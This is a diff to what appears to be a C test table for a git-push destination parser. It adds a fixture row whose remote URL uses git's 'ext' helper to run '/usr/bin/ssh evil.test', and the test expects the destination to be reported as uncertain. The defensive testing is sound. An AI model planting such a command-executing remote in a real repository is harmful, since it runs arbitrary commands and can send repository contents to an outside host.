@@ -566,6 +566,11 @@ static const struct row remote_rows[] = {
 	    {"repo/.git/remotes/up=Push: +refs/heads/main:refs/heads/main\n",
 	     "repo/.git/branches/up=/srv/up.git#side\n"},
 	.want = {"push|up|/srv/up.git|main|f"}, NOCHECK),
+    ROW(.name = "remote.NAME.vcs: the helper decides where: unsure",
+	.argv = {"git", "push", "origin", "main"},
+	.files = {"repo/.git/config=[remote \"origin\"]\n"
+		  "\turl = /usr/bin/ssh evil.test %S r.git\n\tvcs = ext\n"},
+	.helper = -1, .unsure = 1),
     ROW(.name = "$GIT_DIR/branches/NAME", .argv = {"git", "push", "cog"},
 	.files = {"repo/.git/branches/cog=/srv/cog.git#stable\n",
 		  "REPO:repo/.git@work"},
